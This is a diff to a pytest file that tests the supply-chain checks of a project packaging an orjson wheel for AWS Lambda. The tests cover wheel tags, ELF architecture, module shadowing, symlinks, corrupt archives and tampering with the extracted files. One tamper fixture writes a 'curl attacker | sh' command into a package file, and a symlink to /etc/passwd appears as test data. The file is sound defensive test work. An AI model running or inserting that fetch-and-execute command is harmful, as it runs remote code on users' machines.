@@ -2,19 +2,28 @@
 transform ships orjson built for python3.13 on arm64 from the wheel the lock pins, no other
 function ships a package, and every wheel that is missing, swapped, built for another platform,
 unpinned or escaping its directory stops the program with one clear message, before any resource of
-the function and without a traceback in `ztai preview`.
+the function and without a traceback in `ztai preview`. What is checked is what the hash covers: the
+wheel's own WHEEL tags and the ELF header of its machine code (a renamed wheel of another platform
+is refused), its member names and kinds, its top-level names (nothing the function imports from
+the standard library, Lambda's runtime or ztai_runtime may be shadowed), and, on every run, the
+extracted directory against the wheel's bytes.
 
 The tests that need the real wheel fail (never skip) when it is absent, with the fix in the message:
 `./run test` downloads it first (`./run lambda-packages`)."""
 
 from __future__ import annotations
 
+import errno
 import hashlib
+import io
+import os
 import shutil
+import stat
 import struct
 import subprocess
 import sys
 import zipfile
+from collections.abc import Callable, Mapping
 from pathlib import Path
 
 import pytest
@@ -38,9 +47,34 @@ def real_wheel(package: str = "orjson") -> Path:
     """The project's wheel of a package, checked against the project's lock; fails with the fix when
     absent."""
     try:
-        wheel, _ = verified_wheel(package, lock=lambda_packages.LOCK, wheels=lambda_packages.WHEELS_DIR)
+        wheel = verified_wheel(package, lock=lambda_packages.LOCK, wheels=lambda_packages.WHEELS_DIR)
     except LambdaPackageError as error:
         pytest.fail(str(error))
+    return wheel.path
+
+
+def real_files() -> dict[str, bytes]:
+    """{member: bytes} of the project's orjson wheel, in its order."""
+    with zipfile.ZipFile(real_wheel()) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+METADATA = "orjson-3.13.0.dist-info/WHEEL"
+ARM64_METADATA = b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: cp313-cp313-manylinux_2_17_aarch64\n"
+
+
+def staged(tmp_path: Path, files: Mapping[str, bytes] | Mapping[str | zipfile.ZipInfo, bytes], *,
+           metadata: bytes | None = ARM64_METADATA) -> Path:
+    """tmp_path/wheels/WHEEL holding `files` (and a dist-info WHEEL file of `metadata` unless None),
+    with a lock in tmp_path pinning orjson==3.13.0 to its bytes; the wheel's path."""
+    (tmp_path / "wheels").mkdir()
+    wheel = tmp_path / "wheels" / WHEEL
+    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
+        for member, data in files.items():
+            archive.writestr(member, data)
+        if metadata is not None:
+            archive.writestr(METADATA, metadata)
+    lock_of(tmp_path / "requirements-lambda.txt", ("orjson==3.13.0", wheel.read_bytes()))
     return wheel
 
 
@@ -185,17 +219,15 @@ def test_two_wheels_of_the_pinned_version_are_refused(tmp_path: Path) -> None:
 
 def test_a_package_that_would_overwrite_the_runtime_is_refused(
         tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    (tmp_path / "wheels").mkdir()
-    wheel = tmp_path / "wheels" / WHEEL
-    with zipfile.ZipFile(wheel, "w") as archive:
-        archive.writestr("ztai_runtime/__init__.py", "")
-    lock_of(tmp_path / "requirements-lambda.txt", ("orjson==3.13.0", wheel.read_bytes()))
+    wheel = staged(tmp_path, {"orjson/__init__.py": b"", "ztai_runtime/__init__.py": b""})
     monkeypatch.setattr(lambda_packages, "LOCK", tmp_path / "requirements-lambda.txt")
     monkeypatch.setattr(lambda_packages, "WHEELS_DIR", tmp_path / "wheels")
     monkeypatch.setattr(lambda_packages, "PACKAGES_DIR", tmp_path / "extracted")
-    with pytest.raises(LambdaPackageError, match=r"a package of \['orjson'\] ships files under "
-                                                 r"ztai_runtime/, the runtime's own directory"):
+    with pytest.raises(LambdaPackageError) as error:
         runtime_archive(["__init__.py"], ["orjson"])
+    assert (f"{wheel} ships ztai_runtime/__init__.py, which would shadow 'ztai_runtime', the "
+            "function's own runtime package") in str(error.value)
+    assert not (tmp_path / "extracted").exists()
 
 
 def test_a_package_the_lock_does_not_pin_is_refused(tmp_path: Path) -> None:
@@ -275,3 +307,328 @@ def test_ztai_preview_without_the_wheel_ends_with_the_fix_not_a_traceback(tmp_pa
     assert f"error: no wheel of orjson==3.13.0 in {project / '.lambda-packages' / 'wheels'}" in run.stderr
     assert "./run lambda-packages" in run.stderr
     assert "Traceback" not in run.stderr and run.stdout == ""
+
+
+# -- what the hash covers: the wheel's own tags and machine code -------------------------------------
+def with_machine(elf: bytes, *, machine: int | None = None, elf_class: int | None = None) -> bytes:
+    """An ELF file's bytes with its e_machine and/or EI_CLASS changed (the header is little-endian)."""
+    header = bytearray(elf)
+    if machine is not None:
+        header[18:20] = struct.pack("<H", machine)
+    if elf_class is not None:
+        header[4] = elf_class
+    return bytes(header)
+
+
+SO = "orjson/orjson.cpython-313-aarch64-linux-gnu.so"
+
+
+def test_a_renamed_x86_64_wheel_is_refused_by_its_own_wheel_tags(tmp_path: Path) -> None:
+    # Synthesised: the real aarch64 wheel's files with the WHEEL tags of orjson's x86_64 wheel,
+    # under the aarch64 filename, its hash in the lock (the lock lists every platform's wheel).
+    files = {name: data for name, data in real_files().items() if name != METADATA}
+    wheel = staged(tmp_path, files, metadata=(
+        b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: cp313-cp313-manylinux_2_17_x86_64\n"
+        b"Tag: cp313-cp313-manylinux2014_x86_64\n"))
+    message = refused(tmp_path)
+    assert (f"{wheel} declares in {METADATA} the tags cp313-cp313-manylinux_2_17_x86_64, "
+            "cp313-cp313-manylinux2014_x86_64: none fits CPython 3.13 on arm64") in message
+    assert "the functions run python3.13 on arm64" in message
+
+
+@pytest.mark.parametrize(("change", "problem"), [
+    # x86-64 machine code under aarch64 tags and name: would ship, fail to import, and fall back.
+    (lambda elf: with_machine(elf, machine=62),
+     f"has {SO}, machine code for x86-64 (ELF e_machine 62), not 64-bit ARM (AArch64, 183)"),
+    (lambda elf: with_machine(elf, machine=40), f"has {SO}, machine code for 32-bit ARM (ELF e_machine 40)"),
+    (lambda elf: with_machine(elf, elf_class=1), f"has {SO}, an ELF file that is not 64-bit little-endian"),
+    (lambda elf: b"#!/bin/sh\n", f"has {SO}, named as a shared library but not an ELF file"),
+])
+def test_machine_code_for_another_machine_is_refused_whatever_the_tags_say(
+        tmp_path: Path, change: Callable[[bytes], bytes], problem: str) -> None:
+    files = real_files()
+    files[SO] = change(files[SO])
+    wheel = staged(tmp_path, {name: data for name, data in files.items() if name != METADATA},
+                   metadata=files[METADATA])
+    message = refused(tmp_path)
+    assert f"{wheel} {problem}" in message, message
+
+
+def test_an_elf_file_not_named_as_a_library_is_checked_too(tmp_path: Path) -> None:
+    elf = with_machine(real_files()[SO], machine=62)
+    wheel = staged(tmp_path, {"orjson/__init__.py": b"", "orjson/helper.bin": elf})
+    assert f"{wheel} has orjson/helper.bin, machine code for x86-64" in refused(tmp_path)
+
+
+@pytest.mark.parametrize(("metadata", "problem"), [
+    (None, "has 0 *.dist-info/WHEEL files, not one"),
+    (b"Wheel-Version: 1.0\n", f"declares in {METADATA} the tags no Tag: line: none fits"),
+    *[(f"Tag: {tag}\n".encode(), f"declares in {METADATA} the tags {tag}: none fits") for tag in (
+        "cp313-cp313-musllinux_1_2_aarch64", "cp313-cp313-manylinux_2_39_aarch64",
+        "cp312-cp312-manylinux_2_17_aarch64", "cp313-manylinux_2_17_aarch64")],
+    (b"Tag: \xff\n", f"has a {METADATA} that is not UTF-8 text"),
+])
+def test_wheel_metadata_that_does_not_fit_the_runtime_is_refused(
+        tmp_path: Path, metadata: bytes | None, problem: str) -> None:
+    wheel = staged(tmp_path, {"orjson/__init__.py": b""}, metadata=metadata)
+    assert f"{wheel} {problem}" in refused(tmp_path)
+
+
+def test_one_fitting_tag_among_others_is_enough(tmp_path: Path) -> None:
+    staged(tmp_path, {"orjson/__init__.py": b""}, metadata=(
+        b"Tag: cp313-cp313-manylinux_2_17_x86_64\nTag: cp313-cp313-manylinux2014_aarch64\n"))
+    files = package_files("orjson", lock=tmp_path / "requirements-lambda.txt", wheels=tmp_path / "wheels",
+                          into=tmp_path / "extracted")
+    assert set(files) == {"orjson/__init__.py", METADATA}
+
+
+# -- what would shadow what the function imports -----------------------------------------------------
+@pytest.mark.parametrize(("member", "top", "what"), [
+    ("json/__init__.py", "json", "a module of the standard library"),
+    ("base64.py", "base64", "a module of the standard library"),
+    ("gzip.cpython-313-aarch64-linux-gnu.so", "gzip", "a module of the standard library"),
+    # New in CPython 3.13 (the function's), absent from this 3.11's sys.stdlib_module_names.
+    ("_colorize.py", "_colorize", "a module of the standard library"),
+    ("boto3/__init__.py", "boto3", "a package Lambda's Python runtime provides"),
+    ("dateutil/parser.py", "dateutil", "a package Lambda's Python runtime provides"),
+    ("six.py", "six", "a package Lambda's Python runtime provides"),
+    ("bootstrap.py", "bootstrap", "a package Lambda's Python runtime provides"),
+    ("sitecustomize.py", "sitecustomize", "a hook the interpreter imports at start-up"),
+    ("ztai_runtime/siem/ocsf.py", "ztai_runtime", "the function's own runtime package"),
+])
+def test_a_top_level_name_that_would_shadow_an_import_is_refused(
+        tmp_path: Path, member: str, top: str, what: str) -> None:
+    data = real_files()[SO] if member.endswith(".so") else b""  # a fitting ELF for the .so
+    wheel = staged(tmp_path, {"orjson/__init__.py": b"", member: data})
+    message = refused(tmp_path, fix="drop it from requirements-lambda.in")
+    assert f"{wheel} ships {member}, which would shadow {top!r}, {what}" in message, message
+
+
+def test_names_under_dist_info_and_data_and_new_top_level_names_are_shipped(tmp_path: Path) -> None:
+    staged(tmp_path, {"orjson/json.py": b"", "orjson_extra.py": b"",
+                      "orjson-3.13.0.data/purelib/json.py": b"", "orjson-3.13.0.dist-info/boto3": b""})
+    files = package_files("orjson", lock=tmp_path / "requirements-lambda.txt", wheels=tmp_path / "wheels",
+                          into=tmp_path / "extracted")
+    assert "orjson-3.13.0.data/purelib/json.py" in files and "orjson_extra.py" in files
+
+
+# -- members the archive must not have -----------------------------------------------------------
+def symlink_member(name: str) -> zipfile.ZipInfo:
+    info = zipfile.ZipInfo(name)
+    info.create_system = 3  # Unix: the high 16 bits of external_attr are the file's mode
+    info.external_attr = (stat.S_IFLNK | 0o777) << 16
+    return info
+
+
+@pytest.mark.parametrize(("members", "problem"), [
+    ({"orjson/x.py": b"1", "orjson//x.py": b"2"}, "has the member 'orjson//x.py', not a plain relative path"),
+    ({"orjson/./x.py": b""}, "has the member 'orjson/./x.py', not a plain relative path"),
+    ({"orjson\\x.py": b""}, "has the member 'orjson\\\\x.py', not a plain relative path"),
+    ({symlink_member("orjson/py.typed"): b"/etc/passwd"},
+     "has the member 'orjson/py.typed', a symbolic link or special file, not a regular file"),
+    ({"orjson/sub": b"", "orjson/sub/x.py": b""},
+     "has 'orjson/sub' both as a file and as the directory of 'orjson/sub/x.py'"),
+])
+def test_a_member_that_cannot_be_extracted_as_it_is_is_refused(
+        tmp_path: Path, members: Mapping[str | zipfile.ZipInfo, bytes], problem: str) -> None:
+    wheel = staged(tmp_path, {"orjson/__init__.py": b"", **members})
+    message = refused(tmp_path)
+    assert f"{wheel} {problem}" in message and "; refused; run ./run lambda-packages" in message
+
+
+def test_a_member_named_twice_is_refused(tmp_path: Path) -> None:
+    with pytest.warns(UserWarning, match="Duplicate name"):
+        # Two ZipInfo objects of one name: a dict keeps both (a zip may hold a name twice).
+        twice: dict[str | zipfile.ZipInfo, bytes] = {
+            "orjson/__init__.py": b"", zipfile.ZipInfo("orjson/x.py"): b"1",
+            zipfile.ZipInfo("orjson/x.py"): b"2"}
+        wheel = staged(tmp_path, twice)
+    assert f"{wheel} has the member 'orjson/x.py' twice; refused" in refused(tmp_path)
+
+
+# -- a wheel that cannot be read --------------------------------------------------------------------
+def corrupt_member(data: bytes) -> bytes:
+    """The wheel with one byte of its first member's stored data changed (its CRC no longer fits)."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        info = archive.infolist()[0]
+    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
+    changed = bytearray(data)
+    changed[start + 1] ^= 0xFF
+    return bytes(changed)
+
+
+@pytest.mark.parametrize("corrupt", [
+    lambda data: b"not a zip at all",
+    lambda data: data[: len(data) // 2],
+    corrupt_member,
+], ids=["not-a-zip", "truncated", "damaged-member"])
+def test_a_wheel_that_is_not_a_readable_zip_is_refused_without_a_traceback(
+        tmp_path: Path, corrupt: Callable[[bytes], bytes]) -> None:
+    (tmp_path / "wheels").mkdir()
+    data = corrupt(real_wheel().read_bytes())
+    (tmp_path / "wheels" / WHEEL).write_bytes(data)
+    lock_of(tmp_path / "requirements-lambda.txt", ("orjson==3.13.0", data))  # its hash is listed
+    assert f"{tmp_path / 'wheels' / WHEEL} is not a readable wheel (" in refused(tmp_path)
+
+
+def test_a_wheel_that_cannot_be_read_from_disk_is_refused(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    wheel = staged(tmp_path, {"orjson/__init__.py": b""})
+
+    def denied(self: Path) -> bytes:
+        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(self))
+    monkeypatch.setattr(Path, "read_bytes", denied)  # root reads any file: the error is simulated
+    assert f"cannot read {wheel} (Permission denied)" in refused(tmp_path)
+
+
+# -- the extraction: atomic, and checked against the wheel on every run -------------------------------
+def test_a_target_that_is_not_a_writable_directory_is_refused_without_a_traceback(tmp_path: Path) -> None:
+    staged(tmp_path, {"orjson/__init__.py": b""})
+    (tmp_path / "extracted").write_text("a file where the directory should be")
+    with pytest.raises(LambdaPackageError) as error:
+        package_files("orjson", lock=tmp_path / "requirements-lambda.txt", wheels=tmp_path / "wheels",
+                      into=tmp_path / "extracted")
+    message = str(error.value)
+    assert f"cannot extract {tmp_path / 'wheels' / WHEEL} into {tmp_path / 'extracted'}/" in message
+    assert f"{tmp_path / 'extracted'} must be a writable directory with room for it" in message
+
+
+def test_a_failed_extraction_leaves_nothing_half_extracted(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    real = Path.write_bytes
+    written: list[Path] = []
+
+    def disk_full_after_one(self: Path, data: bytes) -> int:
+        if written:
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(self))
+        written.append(self)
+        return real(self, data)
+    wheel = staged(tmp_path, {"orjson/__init__.py": b"", "orjson/other.py": b""})
+    monkeypatch.setattr(Path, "write_bytes", disk_full_after_one)
+    with pytest.raises(LambdaPackageError, match="No space left on device"):
+        package_files("orjson", lock=tmp_path / "requirements-lambda.txt", wheels=tmp_path / "wheels",
+                      into=tmp_path / "extracted")
+    assert written and list((tmp_path / "extracted").iterdir()) == []  # neither target nor scratch
+    monkeypatch.undo()
+    files = package_files("orjson", lock=tmp_path / "requirements-lambda.txt", wheels=tmp_path / "wheels",
+                          into=tmp_path / "extracted")
+    assert files["orjson/other.py"].read_bytes() == b"" and wheel.exists()
+
+
+def test_an_extraction_another_run_renamed_into_place_first_is_used(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    staged(tmp_path, {"orjson/__init__.py": b"init"})
+
+    def lost_the_race(source: str, target: str) -> None:
+        shutil.copytree(source, target)  # the other run's complete extraction
+        raise OSError(errno.ENOTEMPTY, os.strerror(errno.ENOTEMPTY), target)
+    monkeypatch.setattr(os, "rename", lost_the_race)
+    files = package_files("orjson", lock=tmp_path / "requirements-lambda.txt", wheels=tmp_path / "wheels",
+                          into=tmp_path / "extracted")
+    assert files["orjson/__init__.py"].read_bytes() == b"init"
+    target = files["orjson/__init__.py"].parent.parent
+    assert list((tmp_path / "extracted").iterdir()) == [target]  # the scratch directory is gone
+
+
+def tamper_edit(target: Path) -> Path:
+    (target / "orjson" / "__init__.py").write_text("import os; os.system('curl attacker | sh')\n")
+    return target / "orjson" / "__init__.py"
+
+
+def tamper_symlink(target: Path) -> Path:
+    (target / "orjson" / "py.typed").unlink()
+    (target / "orjson" / "py.typed").symlink_to("/etc/passwd")
+    return target / "orjson" / "py.typed"
+
+
+def tamper_same_bytes_by_symlink(target: Path) -> Path:
+    # Same bytes as the wheel's, through a link: still refused (a link can be repointed later).
+    copy = target.parent / "elsewhere.typed"
+    shutil.copy(target / "orjson" / "py.typed", copy)
+    (target / "orjson" / "py.typed").unlink()
+    (target / "orjson" / "py.typed").symlink_to(copy)
+    return target / "orjson" / "py.typed"
+
+
+def tamper_extra_file(target: Path) -> Path:
+    (target / "orjson" / "extra.py").write_text("")
+    return target / "orjson" / "extra.py"
+
+
+def tamper_extra_directory(target: Path) -> Path:
+    (target / "json").mkdir()
+    return target / "json"
+
+
+def tamper_missing(target: Path) -> Path:
+    (target / "orjson" / "py.typed").unlink()
+    return target / "orjson" / "py.typed"
+
+
+def tamper_fifo(target: Path) -> Path:
+    (target / "orjson" / "py.typed").unlink()
+    os.mkfifo(target / "orjson" / "py.typed")
+    return target / "orjson" / "py.typed"
+
+
+def tamper_linked_directory(target: Path) -> Path:
+    moved = target.parent / "moved"
+    (target / "orjson").rename(moved)
+    (target / "orjson").symlink_to(moved)
+    return target / "orjson"
+
+
+def tamper_linked_target(target: Path) -> Path:
+    # The whole directory replaced by a link to an exact copy: refused, the link itself is the risk.
+    copy = target.parent / "copy"
+    shutil.copytree(target, copy)
+    shutil.rmtree(target)
+    target.symlink_to(copy)
+    return target
+
+
+def tamper_file_for_directory(target: Path) -> Path:
+    shutil.rmtree(target)
+    target.write_text("")
+    return target
+
+
+@pytest.mark.parametrize(("tamper", "problem"), [
+    (tamper_edit, "differs from the wheel's file of that name"),
+    (tamper_symlink, "is a symbolic link (the wheel has none)"),
+    (tamper_same_bytes_by_symlink, "is a symbolic link (the wheel has none)"),
+    (tamper_extra_file, "is a file the wheel does not have"),
+    (tamper_extra_directory, "is a directory the wheel does not have"),
+    (tamper_missing, "is missing (the wheel has it)"),
+    (tamper_fifo, "is neither a regular file nor a directory"),
+    (tamper_linked_directory, "is a symbolic link (the wheel has none)"),
+    (tamper_linked_target, "is a symbolic link, not the directory the extraction made"),
+    (tamper_file_for_directory, "is not a directory"),
+])
+def test_a_changed_extraction_is_refused_on_the_next_run_and_left_for_the_user_to_delete(
+        tmp_path: Path, tamper: Callable[[Path], Path], problem: str) -> None:
+    # An extraction that outlives the checkout (a CI cache, a shared host) is not trusted as is.
+    (tmp_path / "wheels").mkdir()
+    shutil.copy(real_wheel(), tmp_path / "wheels" / WHEEL)
+    into = tmp_path / "extracted"
+
+    def run() -> dict[str, Path]:
+        return package_files("orjson", wheels=tmp_path / "wheels", into=into)
+    files = run()
+    target = files["orjson/__init__.py"].parent.parent
+    changed = tamper(target)
+    with pytest.raises(LambdaPackageError) as error:
+        run()
+    message = str(error.value)
+    assert f"{changed} {problem}: the extraction of {WHEEL} in {target} no longer matches" in message
+    assert f"delete {target} and run again, which extracts it again from the wheel" in message
+    assert "Traceback" not in message
+    assert os.path.lexists(changed) or tamper is tamper_missing  # left as it was, not deleted
+    with pytest.raises(LambdaPackageError):
+        run()  # still refused: nothing repaired it behind the user's back
+    if target.is_symlink() or target.is_file():
+        target.unlink()
+    else:
+        shutil.rmtree(target)
+    assert run() == files  # the fix the message names works
+    assert files["orjson/__init__.py"].read_bytes() == real_files()["orjson/__init__.py"]
